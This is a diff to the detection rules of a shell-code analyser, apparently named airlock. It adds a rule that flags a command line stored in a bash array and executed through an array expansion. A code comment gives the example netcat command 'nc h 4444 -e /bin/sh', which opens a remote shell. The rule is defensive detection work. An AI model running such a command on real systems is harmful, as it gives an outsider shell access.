@@ -559,6 +559,18 @@
  (#set! analyze "code")
  (#set! analyze-lines "ProxyCommand|LocalCommand|KnownHostsCommand|Match"))
 
+; cmd=(nc h 4444 -e /bin/sh); "${cmd[@]}", "${job[@]:2}": a command line
+; an array holds, whose arguments are no words of the command as written:
+; the line (the array's elements joined) analysed as code, when the array
+; is the whole command (batch -f "$job" is not batch -f)
+((command . name: (command_name [(string . (expansion (subscript index: (_) @i)) @code .) (expansion (subscript index: (_) @i)) @code]) .) @finding
+ (#eq? @i "@")
+ (#value-match? @code "\\s")
+ (#set! id "sh-inline-code")
+ (#set! severity "info")
+ (#set! message "runs a command line an array holds; airlock analysed that line too")
+ (#set! analyze "code"))
+
 ; tar --checkpoint-action=exec=CMD, tar --to-command=CMD, tar -I CMD
 ; (--use-compress-program), --info-script / --new-volume-script: tar runs
 ; the command with a shell: analysed
